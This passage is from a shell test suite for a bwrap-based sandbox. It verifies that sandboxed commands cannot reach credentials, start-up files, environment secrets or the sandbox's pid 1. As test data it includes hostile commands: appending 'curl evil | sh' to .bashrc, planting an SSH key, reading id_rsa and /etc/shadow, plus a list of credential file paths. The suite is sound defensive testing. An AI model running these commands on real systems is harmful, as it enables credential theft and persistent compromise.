fi
if unshare -Urm true 2>/dev/null; then
  (cd "$FH" && HOME="$FH" unshare -Urm sh -c 'mount -t tmpfs none mnt && "$0" --profile default -- sh -c "echo x >>.bashrc 2>/dev/null && echo wrote; echo ran"' "$SB") >"$TMP/out" 2>"$TMP/err"
  RC=$?
  expect_eq "run from a home with a locked mount below it: the command runs, writes fail" "0 ran" "$RC $(cat "$TMP/out" | tr '\n' ' ' | sed 's/ $//')"
  expect_match "... one line says the home is read-only" "something is mounted below .*: no throwaway layer there, it is read-only" "$(cat "$TMP/err")"
else
  skip "a home with a locked mount below it (no unprivileged user namespace)"
fi
expect_eq "... nothing in the home changed on the host" "$before" "$(tree "$FH")"
# The home, or a directory holding it, reached through another path (a
# bind mount of /home elsewhere, an automount alias): the same rules. The
# aliases are outside the directories they show (a mount below a directory
# shown through a throwaway layer fails that layer). The attack goes by
# relative paths: the home's own path is not what the command was given.
mkhome
A1=$(mktemp -d /tmp/sbalias.XXXXXX)
A2=$(mktemp -d /tmp/sbalias.XXXXXX)
if is_root && mount --bind "$FH" "$A1" && mount --bind "$TMP" "$A2"; then
  for from in home ancestor; do
    before=$(tree "$FH")
    [ $from = home ] && set -- "$A1" . || set -- "$A2" "${FH##*/}"
    sbh "$1" --profile default -- sh -c 'cd "$1" && cat .ssh/id_rsa 2>/dev/null; echo evil >>.bashrc
      mkdir -p .config/sandbox/profiles && echo share-net >.config/sandbox/profiles/default.profile
      echo end' sh "$2"
    expect_eq "run from another path to the home ($from): the key is not readable, the command ran" \
      "end" "$OUT"
    expect_eq "run from another path to the home ($from): nothing in the home changed on the host" \
      "$before" "$(tree "$FH")"
  done
else
  skip "the home through a bind mount elsewhere (needs root to mount)"
fi
umount "$A2" "$A1" 2>/dev/null
rmdir "$A1" "$A2"
# The next run's policy is the built-in one, not one planted from inside.
mkhome
sbh "$FH" --profile default -- sh -c "$ATTACK_HOME"
sbh "$FH/proj" --explain -- true
expect_eq "the next run is not ruled by a profile planted from inside" "0 builtin:default" \
  "$RC $(printf '%s\n' "$OUT" | grep -o -e 'builtin:default' -e "$FH/.config/sandbox/profiles[^ ]*" | sort -u | tr '\n' ' ' | sed 's/ $//')"
# From a directory in the home: ~/.config as the project.
mkhome
before=$(tree "$FH")
sbh "$FH/.config" --profile default -- sh -c 'mkdir -p sandbox/profiles && echo x >sandbox/profiles/default.profile
  mkdir autostart && echo x >autostart/x.desktop; mkdir -p systemd/user && echo x >systemd/user/x.service; echo end'
expect_eq "run from ~/.config: no profile, autostart entry or user service can be created" \
  "end $before" "$OUT $(tree "$FH")"
# A profile's writable bind of the home: refused, unless the line says so.
mkhome
printf 'include default\nbind ${HOME} ${HOME}\n' >"$TMP/home-rw.profile"
sbh "$FH/proj" --profile "$TMP/home-rw.profile" -- echo ran
expect_match "a profile's writable bind of the home is refused with file:line:col" \
  "^1 sandbox: $TMP/home-rw.profile:2:6: error: 'bind' would make $FH writable" "$RC $ERR"
printf 'include default\nunsafe-home bind ${HOME} ${HOME}\n' >"$TMP/home-rw.profile"
sbh "$FH/proj" --profile "$TMP/home-rw.profile" -- sh -c "$ATTACK_HOME"
expect_eq "unsafe-home: the home is writable, its start-up files and secrets are not" \
  "end $before" "$OUT $(tree "$FH")"
# Secrets hidden where a bind shows the home elsewhere too.
mkhome
sbh "$FH/proj" --profile default --ro-bind "$FH" /h -- sh -c 'cat /h/.ssh/id_rsa 2>/dev/null; ls -A /h/.ssh; echo end'
expect_eq "a masked path stays hidden under another bind's destination" "end" "$OUT"
# mask / --hide, and --explain naming where each mask comes from.
mkdir -p "$FH/proj/secret.d" && echo s >"$FH/proj/secret.d/x" && echo s >"$FH/proj/token"
sbh "$FH/proj" --hide "$FH/proj/secret.d" --hide "$FH/proj/token" --hide "$FH/proj/absent" -- \
  sh -c 'ls -A secret.d; cat token; echo x >token 2>/dev/null || echo ro; ls -ld secret.d | cut -c1-10'
expect_eq "--hide: an empty read-only directory, an empty read-only file, nothing when absent" \
  "0 ro drwxr-xr-x" "$RC $(echo $OUT)"
sbh "$FH/proj" --hide "$FH/proj/token" --explain -- true
expect_match "--explain shows the built-in masks with their origin" "mask $FH/.ssh  \[builtin:base-protect:[0-9]+\]" "$OUT"
expect_match "--explain shows --hide with its origin" "mask $FH/proj/token  \[command line, argument 1\]" "$OUT"

# Credential files of other common tools, run from the home: all hidden.
mkhome
CREDS=".config/git/credentials .vault-token .pgpass .my.cnf .dockercfg .config/containers/auth.json
  .gem/credentials .composer/auth.json .config/composer/auth.json .terraform.d/credentials.tfrc.json
  .cache/huggingface/token .huggingface/token .config/rclone/rclone.conf .s3cfg .boto .config/hub
  .config/op/config .claude/.credentials.json .codex/auth.json"
for f in $CREDS; do mkdir -p "$(dirname "$FH/$f")" && echo "CRED $f" >"$FH/$f"; done
chmod -R a+rX "$FH"
sbh "$FH" --profile default -- sh -c "for f in $(echo $CREDS); do cat \"\$f\" 2>/dev/null; done; echo end"
expect_eq "run from the home: git, vault, database, registry, cloud and agent credentials are hidden" \
  "end" "$OUT"

# ---- symlinks planted in the home redirect a later profile's binds ----
mkhome
sbh "$FH" --profile default -- sh -c 'ln -s .ssh .themes; ln -s ../ .config/gtk-3.0'
expect_eq "from the home, planted symlinks do not reach the host" "" "$(ls -A "$FH" | grep -x -e .themes; ls -A "$FH/.config" | grep -x gtk-3.0)"
ln -s .ssh "$FH/.themes"
ln -s ../ "$FH/.config/gtk-3.0"
sbh "$FH" --profile desktop -- sh -c 'cat ~/.themes/id_rsa ~/.config/gtk-3.0/.ssh/id_rsa 2>/dev/null; echo end'
expect_eq "desktop: binds of ~/.themes and ~/.config/gtk-3.0 follow no planted symlink" "end" "$OUT"
rm -f "$FH/.themes" "$FH/.config/gtk-3.0"

# The access options are binds like the profile's: the protect lines
# still apply over them. --write of the home (run from elsewhere), and
# --home on a directory that holds start-up files.
AH="$TMP/access-home"
mkdir -p "$AH/.ssh" "$TMP/elsewhere"
printf '# rc\n' >"$AH/.bashrc"
printf 'ssh-ed25519 AAAA user\n' >"$AH/.ssh/authorized_keys"
ah_sum() { cat "$AH/.bashrc" "$AH/.ssh/authorized_keys" | md5sum; }
before=$(ah_sum)
(cd "$TMP/elsewhere" && HOME="$AH" "$SB" --write "$AH" -- sh -c '
  echo "curl evil | sh" >> "$HOME/.bashrc" 2>/dev/null && echo bashrc-appended
  echo "ssh-ed25519 EVIL" >> "$HOME/.ssh/authorized_keys" 2>/dev/null && echo key-added
  touch "$HOME/made-here" && echo home-writable') >"$TMP/out" 2>/dev/null
expect_eq "--write \$HOME: start-up files and ~/.ssh stay read-only" "home-writable" "$(cat "$TMP/out")"
check "--write \$HOME: the home itself was writable" test -f "$AH/made-here"
rm -f "$AH/made-here"
(cd "$TMP/elsewhere" && HOME="$TMP/nohome" "$SB" --home "$AH" -- sh -c '
  echo "curl evil | sh" >> "$HOME/.bashrc" 2>/dev/null && echo bashrc-appended
  echo "ssh-ed25519 EVIL" >> "$HOME/.ssh/authorized_keys" 2>/dev/null && echo key-added
  touch "$HOME/made-here" && echo home-writable') >"$TMP/out" 2>/dev/null
expect_eq "--home DIR: DIR's start-up files and .ssh stay read-only" "home-writable" "$(cat "$TMP/out")"
check "--home DIR: DIR itself was writable" test -f "$AH/made-here"
expect_eq "--write, --home: start-up files and keys unchanged on the host" "$before" "$(ah_sum)"

# The sandbox's own pid 1 keeps nothing of set-up the command could reopen
# through /proc/1/fd. (It stays dumpable, as bwrap's: callers join the
# sandbox through /proc/PID/ns.) The default profile refuses ptrace of
# pid 1: a stopped pid 1 would hang the sandbox.
cat > "$TMP/pid1.py" <<'PY'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH
print("attach", "OK" if r == 0 else os.strerror(ctypes.get_errno()))
n = 0
for fd in range(3, 16):
    try:
        os.close(os.open("/proc/1/fd/%d" % fd, os.O_RDWR))
        n += 1
    except OSError:
        pass
print("reopened", n)
PY
if command -v python3 >/dev/null; then
  run_sb --profile default --bind "$TMP" "$TMP" -- python3 "$TMP/pid1.py"
  expect_match "default: the command cannot ptrace-stop its pid 1" "^attach Operation not permitted" "$OUT"
  expect_match "default: the command cannot reopen pid 1's fds" "^reopened 0$" "$OUT"
else
  skip "python3 not installed"
fi

# ---- the command against its own pid 1 ----
# pid 1 started the command and holds the channel the command's status
# reaches the caller by (an eventfd). The command runs in a Landlock domain
# pid 1 is outside of: ptrace, /proc/1/mem, process_vm_writev and
# pidfd_getfd need ptrace rights over pid 1, which the domain keeps to
# itself, and signal scoping (ABI 6) keeps signals in it too. Every
# profile, no flags, and a plain bwrap line; the caller must see the
# command's exit status, never one forged through pid 1.
cp "$HELPERS/sb-forge-status" "$WORK/"
chmod a+rx "$WORK/sb-forge-status"
SAVED_HOME=$HOME
HOME="$TMP/fakehome"
export HOME
mkdir -p "$HOME"
for m in default build net desktop strict noflags bwrap bwrap-nonet; do
  case $m in
  default | build | net) set -- --profile $m ;;
  # desktop starts in its private home: the helper is bound where it looks
  desktop) set -- --profile desktop --ro-bind "$WORK/sb-forge-status" "$HOME/sb-forge-status" ;;
  strict) set -- $STRICT ;;
  noflags) set -- ;;
  bwrap) set -- $SYS --bind "$WORK" "$WORK" --chdir "$WORK" --unshare-pid --proc /proc --dev /dev ;;
  bwrap-nonet) set -- $SYS --bind "$WORK" "$WORK" --chdir "$WORK" --unshare-all --proc /proc --dev /dev ;;
  esac
  sbx none "$@" -- sh -c './sb-forge-status; echo "tests FAILED"; exit 7'
  expect_eq "$m: the exit status is the command's, whatever it does to pid 1" 7 "$RC"
  for a in getfd mem ptrace vmwrite signal; do
    # A plain bwrap line without network scopes abstract sockets, not
    # signals (bwrap's semantics): the signal reaches pid 1, which passes
    # on none sent from inside; the exit status above shows it.
    [ $m = bwrap-nonet ] && [ $a = signal ] && continue
    stopped "$m: pid 1" $a "EPERM|EACCES"
  done
done
HOME=$SAVED_HOME

# Without Landlock (an outer sandbox's filter answers the landlock calls
# ENOSYS, as a kernel before 5.13 would) a profile run falls back to a
# non-dumpable pid 1, and pid 1 passes on no signal sent from inside.
NOLL="--ro-bind / / --bind /proc /proc --bind /tmp /tmp --dev /dev"
for m in default strict; do
  case $m in
  default) set -- --profile default ;;
  strict) set -- $STRICT ;;
  esac
  sbx none $NOLL --syscall "landlock_create_ruleset,landlock_add_rule,landlock_restrict_self errno(ENOSYS)" \
    -- "$SB" "$@" -- sh -c './sb-forge-status; echo "tests FAILED"; exit 7'
  expect_eq "$m without Landlock: the exit status is the command's" 7 "$RC"
  for a in getfd mem ptrace vmwrite; do
    stopped "$m without Landlock: pid 1" $a "EPERM|EACCES"
  done
done
sbx none $NOLL --syscall "landlock_create_ruleset errno(ENOSYS)" -- "$SB" --profile default --explain
expect_match "--explain says when there is no Landlock" "^landlock: not available" "$OUT"

# ---- Landlock: the second layer under a profile ----
# Host abstract unix sockets: a shared network namespace (net, desktop)
# reaches them all, whatever is bound; the domain scopes them (ABI 6).
SAVED_HOME=$HOME
HOME="$TMP/fakehome"
export HOME
for prof in net desktop; do
  : >"$TMP/accepted"
  # (desktop starts in its private home: the script comes on stdin)
  sbx none --profile $prof -- $PY - connect:abstract:$ABSTRACT connect:tcp:$PORT <"$WORK/attack.py"
  stopped "$prof: host abstract socket" connect:abstract:$ABSTRACT EPERM
  expect_eq "$prof: the network is still shared (host tcp reached)" OK "$(res connect:tcp:$PORT)"
  sync_listeners
  expect_eq "$prof: the abstract listener accepted nothing (but the host's own)" 1 "$(grep -c -- "-abstract" "$TMP/accepted")"
done
HOME=$SAVED_HOME
# A path the mount tree exposes: a host directory handed in as fd 3 is
# /dev/fd/3 and /proc/self/fd/3 inside; the mount layer does not see it,
# the domain does (its inodes are under no rule). The sandbox's own root
# takes no file either: write only where the plan binds writable.
for m in default strict noflags bwrap bwrap-landlock; do
  case $m in
  default) set -- --profile default ;;
  strict) set -- $STRICT ;;
  noflags) set -- ;;
  bwrap) set -- $SYS --bind "$WORK" "$WORK" --chdir "$WORK" --proc /proc --dev /dev ;;
  bwrap-landlock) set -- $SYS --bind "$WORK" "$WORK" --chdir "$WORK" --proc /proc --dev /dev --landlock ;;
  esac
  rm -f "$HOSTONLY/pwned" "$HOSTONLY/pwned2"
  sbx none "$@" -- sh -c 'echo x >/dev/fd/3/pwned; echo x >/proc/self/fd/3/pwned2; cat /dev/fd/3/marker
    touch /planted && echo root-writable; echo ok >"$PWD/cwd-ok" && cat "$PWD/cwd-ok"' 3<"$HOSTONLY"
  case $m in
  bwrap)
    expect_eq "$m: a plain bwrap line keeps bwrap's semantics (the fd's directory is writable)" \
      "marker ok pwned pwned2" "$(echo $OUT | sed 's/root-writable //') $(ls "$HOSTONLY" | grep pwned | tr '\n' ' ' | sed 's/ $//')" ;;
  *)
    check "$m: no write outside the binds through a directory fd handed in" \
      test ! -e "$HOSTONLY/pwned" -a ! -e "$HOSTONLY/pwned2"
    expect_eq "$m: no read there either; the root takes no file; the cwd is writable" "ok" "$OUT" ;;
  esac
done
rm -f "$HOSTONLY/pwned" "$HOSTONLY/pwned2" "$WORK/cwd-ok"
# No network in the plan: the sandbox's own loopback works (test suites run
# servers there), and still nothing leaves (host TCP is checked above).
for m in default build; do
  sbx none --profile $m -- $PY -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
c = socket.create_connection(s.getsockname(), timeout=10); a, _ = s.accept(); c.sendall(b"hi"); print(a.recv(2).decode())'
  expect_eq "$m: a server on the sandbox's own loopback" "0 hi" "$RC $OUT"
done
# ... and ordinary work still goes: a compiler and its output run from the
# cwd and from /tmp, make, git, renames across directories, /dev/stderr,
# /dev/tty-less terminals (stdin a pipe), /dev/shm.
if command -v cc >/dev/null && command -v git >/dev/null && command -v make >/dev/null; then
  for m in default build strict; do
    rm -rf "$WORK/ord"
    mkdir -p "$WORK/ord"
    printf 'int main(void) { return 3; }\n' >"$WORK/ord/a.c"
    printf 'all:\n\tcc -o a a.c\n' >"$WORK/ord/Makefile"
    case $m in
    strict) set -- $STRICT --chdir "$WORK/ord" ;;
    *) set -- --profile $m --chdir "$WORK/ord" ;;
    esac
    # (Output through a pipe, as CI runners and shells give it: for a root
    # caller the sandbox's host id reopens it by name, /dev/stderr.)
    (cd "$WORK" && "$SB" "$@" -- sh -c '
      make -s && { ./a; echo "a $?"; }
      cc -o /tmp/b a.c && { /tmp/b; echo "b $?"; }
      git init -q r && cd r && git -c user.email=a@b -c user.name=n commit -q --allow-empty -m m && git log --oneline | wc -l && cd ..
      mkdir -p d1 d2 && echo x >d1/f && mv d1/f d2/f && echo moved
      echo err >/dev/stderr && echo piped | cat /dev/stdin
      echo s >/dev/shm/s && rm /dev/shm/s && echo shm' 2>&1 | grep -v -e "^err$" -e "^sandbox: ") >"$TMP/out"
    OUT=$(cat "$TMP/out")
    expect_eq "$m: ordinary work under the Landlock layer" "a 3 b 3 1 moved piped shm" "$(echo $OUT)"
  done
  rm -rf "$WORK/ord"
else
  skip "cc, git or make not installed"
fi
# Standard input and output that are pipes reopen by name (/dev/stdin,
# /dev/stdout), for a root caller too, whose sandbox runs as another host
# uid: a pipe root made is mode 0600.
OUT=$(cd "$WORK" && echo in | "$SB" --profile default -- sh -c 'cat /dev/stdin; echo out >/dev/stdout' 2>&1 | cat)
expect_eq "pipes on stdin and stdout reopen by name under a profile" "in
out" "$OUT"
run_sb --profile default --explain
expect_match "--explain names the Landlock ABI and what it covers" \
  "^landlock: ABI [1-9].*pid 1 included" "$(echo "$OUT" | grep '^landlock')"
# ---- per-user kernel quotas: the caller keeps headroom ----
# ucounts are counted in every user namespace up to the host's: inotify
# instances made inside are the caller's. The sandbox's namespace has half
# of each of the caller's limits, so with the sandbox still holding all it
# could get, the caller can make one more on the host.
cat >"$WORK/inotify.py" <<'EOF'
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
fds = []
while True:
    fd = libc.inotify_init1(0)
    if fd < 0:
        break
    fds.append(fd)
with open(sys.argv[1] + ".tmp", "w") as f:
    f.write("%d %s\n" % (len(fds), os.strerror(ctypes.get_errno())))
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
while not os.path.exists(sys.argv[2]):
    time.sleep(0.02)
EOF
# The caller here is a user namespace of this test's own, with a limit of
# its own (16): what other tests and the host's daemons hold of the same
# uid's instances does not count there, so the check is the sandbox's
# doing alone. Events, not times: the sandbox says when it holds all it
# could get, and holds them until told.
cat >"$WORK/inotify-caller.sh" <<'EOF'
set -u
echo 16 >/proc/sys/user/max_inotify_instances || exit 90
"$SB" $STRICT -- "$PY" "$WORK/inotify.py" "$WORK/ino-ready" "$WORK/ino-done" >"$TMP/ino.out" 2>&1 &
ino_pid=$!
for _ in $(seq 3000); do [ -e "$WORK/ino-ready" ] && break; sleep 0.02; done
echo "inside $(cat "$WORK/ino-ready" 2>/dev/null)"
echo "host $("$PY" -c 'import ctypes, os
l = ctypes.CDLL(None, use_errno=True)
print("OK" if l.inotify_init1(0) >= 0 else os.strerror(ctypes.get_errno()))')"
touch "$WORK/ino-done"
wait "$ino_pid"
echo "rc $?"
EOF
rm -f "$WORK/ino-ready" "$WORK/ino-done"
if unshare -Ur true 2>/dev/null; then
  res_ino=$(SB="$SB" STRICT="$STRICT" PY="$PY" WORK="$WORK" TMP="$TMP" unshare -Ur sh "$WORK/inotify-caller.sh" 2>&1)
  inside=$(printf '%s\n' "$res_ino" | sed -n 's/^inside //p')
  host=$(printf '%s\n' "$res_ino" | sed -n 's/^host //p')
  ino_rc=$(printf '%s\n' "$res_ino" | sed -n 's/^rc //p')
  expect_match "inotify: the sandbox made instances until refused" "^[0-9]+ Too many open files$" "$inside"
  check "inotify: the sandbox got at most half of the caller's limit ($inside of 16)" \
    test "${inside%% *}" -le 8
  expect_eq "inotify: the caller can still make one meanwhile" "OK" "$host"
  expect_eq "inotify: the sandbox ran to its end" 0 "$ino_rc"
  [ "$ino_rc" = 0 ] || diag "$res_ino" "$(cat "$TMP/ino.out")"
else
  skip "inotify quotas: no user namespace for the test's own caller"
fi
# ---- the caller's secrets in the environment ----
# Under the profiles, inherited variables named like secrets stay outside
# (names only: the test's values must not show up in --explain either);
# --keep-env brings one back; a plain bwrap command line keeps them all.
# REDIS_URL goes by its value (a URL with a password), SERVICE_URL stays.
SECRETS="GITHUB_TOKEN=ghp_sbtest$$ AWS_SECRET_ACCESS_KEY=aws-sbtest$$ OPENAI_API_KEY=sk-sbtest$$ SSH_AUTH_SOCK=/run/sbtest.sock KEYBOARD=us REDIS_URL=redis://:sbtest$$@cache:6379/0 SERVICE_URL=https://example.test/api"
SVC="SERVICE_URL=https://example.test/api"
# envsb OPTIONS...: env inside, with the secrets above; the lines of
# interest, sorted, in OUT.
envsb() {
  # shellcheck disable=SC2086
  (cd "$WORK" && env $SECRETS "$SB" "$@" env) >"$TMP/out" 2>"$TMP/err"
  RC=$?
  OUT=$(grep -E '^(GITHUB_TOKEN|AWS_SECRET_ACCESS_KEY|OPENAI_API_KEY|SSH_AUTH_SOCK|KEYBOARD|REDIS_URL|SERVICE_URL)=' "$TMP/out" | sort | tr '\n' ' ')
}
ALL="AWS_SECRET_ACCESS_KEY=aws-sbtest$$ GITHUB_TOKEN=ghp_sbtest$$ KEYBOARD=us OPENAI_API_KEY=sk-sbtest$$ REDIS_URL=redis://:sbtest$$@cache:6379/0 $SVC SSH_AUTH_SOCK=/run/sbtest.sock "
for how in default net strict noflags; do
  case $how in
  noflags) set -- -- ;;
  strict) set -- $STRICT -- ;;
  *) set -- --profile $how -- ;;
  esac
  envsb "$@"
  expect_eq "$how: GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY, OPENAI_API_KEY, SSH_AUTH_SOCK, REDIS_URL are invisible; KEYBOARD, SERVICE_URL are not" \
    "0 KEYBOARD=us $SVC " "$RC $OUT"
done
envsb --profile net --keep-env GITHUB_TOKEN --keep-env SSH_AUTH_SOCK --
expect_eq "net --keep-env: the variables named are visible, the others not" \
  "GITHUB_TOKEN=ghp_sbtest$$ KEYBOARD=us $SVC SSH_AUTH_SOCK=/run/sbtest.sock " "$OUT"
printf 'include default\nkeep-env AWS_SECRET_ACCESS_KEY\n' >"$TMP/keep.profile"
envsb --profile "$TMP/keep.profile" --
expect_eq "a profile's keep-env line keeps its variable" "AWS_SECRET_ACCESS_KEY=aws-sbtest$$ KEYBOARD=us $SVC " "$OUT"
# shellcheck disable=SC2086
envsb $SYS --
expect_eq "a plain bwrap command line keeps the whole environment" "$ALL" "$OUT"
envsb --profile default --setenv GITHUB_TOKEN explicit --
expect_eq "an explicit --setenv of a secret-looking name is meant, and kept" \
  "GITHUB_TOKEN=explicit KEYBOARD=us $SVC " "$OUT"
# shellcheck disable=SC2086
(cd "$WORK" && env $SECRETS "$SB" --profile net --explain -- true) >"$TMP/out" 2>&1
expect_eq "--explain names each dropped variable" \
  "AWS_SECRET_ACCESS_KEY GITHUB_TOKEN OPENAI_API_KEY REDIS_URL SSH_AUTH_SOCK" \
  "$(sed -n 's/^ *dropped \([A-Z_]*\) .*/\1/p' "$TMP/out" |
    grep -E '^(GITHUB_TOKEN|AWS_SECRET_ACCESS_KEY|OPENAI_API_KEY|SSH_AUTH_SOCK|KEYBOARD|REDIS_URL|SERVICE_URL)$' | sort | tr '\n' ' ' | sed 's/ $//')"
expect_eq "--explain never shows a value" 0 "$(grep -c "sbtest$$" "$TMP/out")"

# ---- a root caller's identity under a profile ----
# uid 0 inside is an unprivileged host uid: root-only host files are
# unreadable by plain permissions, RLIMIT_NPROC applies, and what the
# command writes to its working directory still belongs to the caller.
# For an unprivileged caller (user mode) all of this held before.
ROOTONLY="$TMP/rootonly"
mkdir -p "$ROOTONLY"
echo only-the-owner >"$ROOTONLY/secret"
chmod 600 "$ROOTONLY/secret"
chmod 755 "$ROOTONLY"
KEYS=$(ls /etc/ssh/ssh_host_*_key 2>/dev/null | tr '\n' ' ')
for mode in default noflags net; do
  case $mode in
  net) set -- --profile net --ro-bind "$ROOTONLY" "$ROOTONLY" -- ;;
  default) set -- --profile default --ro-bind "$ROOTONLY" "$ROOTONLY" -- ;;
  noflags) set -- -- ;;
  esac
  # shellcheck disable=SC2086
  (cd "$WORK" && "$SB" "$@" sh -c 'for f; do cat "$f" >/dev/null 2>&1 && echo "$f read"; done; echo end' \
    sh /etc/shadow- /etc/gshadow- /etc/shadow /etc/gshadow $KEYS) >"$TMP/out" 2>&1
  expect_eq "$mode: /etc/shadow-, /etc/gshadow-, ssh host keys are unreadable" "end" "$(cat "$TMP/out")"
  [ $mode = noflags ] && continue
  (cd "$WORK" && "$SB" "$@" cat "$ROOTONLY/secret") >"$TMP/out" 2>&1
  if is_root; then
    expect_match "$mode: a root-owned file of mode 0600 is unreadable" "Permission denied" "$(cat "$TMP/out")"
  else
    skip "$mode: a root-owned 0600 file (the caller is not root: its own 0600 file is its own)"
  fi
done
check "control: the caller reads its own 0600 file" grep -q only-the-owner "$ROOTONLY/secret"
rm -f "$WORK/owned"
sbx default -- sh -c 'echo x >owned; mkdir -p made/deeper; id -u; id -g'
expect_eq "default: id inside is what it was (the caller's ids)" "$(id -u) $(id -g)" "$(echo $OUT)"
expect_eq "default: a file and directories written to the cwd belong to the caller on the host" \
  "$(id -u):$(id -g) $(id -u):$(id -g) $(id -u):$(id -g)" \
  "$(stat -c %u:%g "$WORK/owned" "$WORK/made" "$WORK/made/deeper" | tr '\n' ' ' | sed 's/ $//')"
rm -rf "$WORK/owned" "$WORK/made"
# Root in another user's project: the sandbox's root (no host root) writes
# there as the project's owner, through an idmapped mount mapped by owner.
if is_root; then
  OTHER="$TMP/others-project"
  mkdir -p "$OTHER" && echo mine >"$OTHER/f" && chown -R nobody:nogroup "$OTHER"
  (cd "$OTHER" && "$SB" --profile default -- sh -c 'echo x >>f && echo new >new && mkdir d && stat -c %u f new d') >"$TMP/out" 2>"$TMP/err"
  expect_eq "root in a project owned by another user: writable, its files the sandbox's own" \
    "0 0 0 0" "$? $(cat "$TMP/out" | tr '\n' ' ' | sed 's/ $//')"
  expect_eq "... and what it wrote belongs to the project's owner on the host" \
    "nobody nobody nobody" "$(stat -c %U "$OTHER/f" "$OTHER/new" "$OTHER/d" | tr '\n' ' ' | sed 's/ $//')"
fi
sbx default -- sh -c 'touch /tmp/t /var/tmp/t /run/user/$(id -u)/t && ls -ld /tmp /proc/self/fd/0 >/dev/null && : >/dev/null && echo fine'
expect_eq "default: /tmp, /var/tmp, XDG_RUNTIME_DIR writable, /proc and /dev usable" "0 fine" "$RC $OUT"
# RLIMIT_NPROC: host uid 0 is exempt from it. A fork loop in a subshell
# (dash gives up at the first refused fork), then a count of the
# sandbox's processes with shell builtins only.
printf 'include default\nrlimit nproc=12\n' >"$TMP/nproc.profile"
(cd "$WORK" && "$SB" --profile "$TMP/nproc.profile" -- sh -c '
  (i=0; while [ $i -lt 40 ]; do sleep 60 & i=$((i + 1)); done) 2>/dev/null
  n=0; for p in /proc/[0-9]*; do n=$((n + 1)); done; echo $n') >"$TMP/out" 2>/dev/null
n=$(cat "$TMP/out")
expect_match "rlimit nproc=12 bounds a fork loop (got $n processes)" '^([1-9]|1[0-2])$' "$n"
# Mounts made inside an idmapped bind (the protected .git entries) stay
# in the sandbox: its clones are slaves of the host's mounts, not peers.
mkdir -p "$WORK/proj/.git/hooks"
: >"$WORK/proj/.git/config"
mounts_before=$(host_mounts)
(cd "$WORK/proj" && "$SB" --profile default -- sh -c 'sleep 0.2; echo ok') >"$TMP/out" 2>&1 &
SBPID=$!
wait $SBPID
expect_eq "default: a run from a git work tree succeeds" "ok" "$(cat "$TMP/out")"
expect_eq "default: no mount of the sandbox shows up on the host" "$mounts_before" "$(host_mounts)"
rm -rf "$WORK/proj"
# A file system that refuses idmapped mounts (cgroup2 here): today's
# identity, with one warning line naming the path.
if is_root && [ -d /sys/fs/cgroup ]; then
  (cd "$WORK" && "$SB" --profile default --bind /sys/fs/cgroup /mnt/cg -- id -u) >"$TMP/out" 2>"$TMP/err"
  expect_eq "fallback: the command runs, as uid 0" "0" "$(cat "$TMP/out")"
  expect_eq "fallback: one warning line names the path" "1 1" \
    "$(grep -c . "$TMP/err") $(grep -c '/sys/fs/cgroup' "$TMP/err")"
else
  skip "fallback when idmapping is refused (root only: nothing is idmapped for other callers)"
fi
# A plain bwrap command line keeps bwrap's semantics: root stays root.
if is_root; then
  # shellcheck disable=SC2086
  run_sb $SYS --dev /dev --unshare-user -- sh -c 'cat /etc/shadow- >/dev/null && echo read'
  expect_eq "a plain bwrap command line: a root caller still reads /etc/shadow-" "read" "$OUT"
else
  skip "a plain bwrap command line as root (the caller is not root)"
fi

# Secrets whose names carry no TOKEN or KEY: a personal access token, a
# CI job's signed identity, URLs with their key or password in them, an
# unlocked password manager's session.
for how in default net; do
  (cd "$WORK" && env GH_PAT=p$$ CI_JOB_JWT=j$$ SENTRY_DSN=https://k$$@o.example/1 \
    SLACK_WEBHOOK_URL=https://hooks.example/T$$ BW_SESSION=b$$ \
    DATABASE_URL=postgres://u:pw$$@db/x "$SB" --profile $how -- env) >"$TMP/out" 2>"$TMP/err"
  expect_eq "$how: GH_PAT, CI_JOB_JWT, SENTRY_DSN, SLACK_WEBHOOK_URL, BW_SESSION, DATABASE_URL are invisible" \
    "0 " "$? $(grep -E "^(GH_PAT|CI_JOB_JWT|SENTRY_DSN|SLACK_WEBHOOK_URL|BW_SESSION|DATABASE_URL)=" "$TMP/out" | tr '\n' ' ')"
done

# ---- a profile file in the project rules the next run ----
# A project keeps its profile beside its code (sandbox --profile
# ./ci.profile): the command must not rewrite it, replace it, or swap the
# directory holding it, nor a file it includes, or the next run is the
# command's (share-net, bind / /).
PP="$TMP/profproj"
mkdir -p "$PP/prof" "$PP/inc"
chmod 777 "$PP" "$PP/prof" "$PP/inc"
printf 'include default\n' >"$PP/ci.profile"
printf 'include ../inc/base.profile\n' >"$PP/prof/p.profile"
printf 'include default\n' >"$PP/inc/base.profile"
chmod 666 "$PP/ci.profile" "$PP/prof/p.profile" "$PP/inc/base.profile"
before=$(tree "$PP")
(cd "$PP" && "$SB" --profile ./ci.profile -- sh -c 'printf "include default\nshare-net\n" >ci.profile
  mv ci.profile x || rm -f ci.profile; echo end') >"$TMP/out" 2>&1
(cd "$PP" && "$SB" --profile ./prof/p.profile -- sh -c 'echo share-net >>inc/base.profile
  mv prof prof.old && mkdir prof && echo "include net" >prof/p.profile; echo end') >>"$TMP/out" 2>&1
expect_eq "a profile file in the writable directory, and one it includes, stay as they were" \
  "$before" "$(tree "$PP")"
expect_eq "(the commands ran)" "2" "$(grep -c '^end$' "$TMP/out")"

# ---- a sandbox outliving its caller ----
# The command keeps running on the host after the sandbox is killed
# (SIGKILL: a CI job's timeout) unless the death signal holds. A root
# caller's sandbox switches to its own host uid during set-up, and the
# kernel clears the death signal on a change of uid. The command holds
# the write end of a FIFO: the reader sees end-of-file once every process
# of the sandbox is gone (bounded wait: a surviving sandbox fails, it
# does not hang the test).
for mode in default noflags; do
  fifo="$TMP/dwp-$mode.fifo"
  rm -f "$fifo"
  mkfifo -m 666 "$fifo"
  case $mode in
  default) set -- --profile default ;;
  noflags) set -- ;;
  esac
  (cd "$WORK" && exec "$SB" "$@" -- sh -c 'echo up; exec sleep 60') >"$fifo" 2>/dev/null &
  sbpid=$!
  exec 4<"$fifo"
  read -r up <&4
  kill -KILL $sbpid
  wait $sbpid 2>/dev/null
  if [ "$up" = up ] && timeout 20 cat <&4 >/dev/null; then r=gone; else r="still running"; fi
  exec 4<&-
  expect_eq "$mode: SIGKILL of the sandbox ends its command (die-with-parent)" gone "$r"
done

# ---- set-user-id files left behind ----
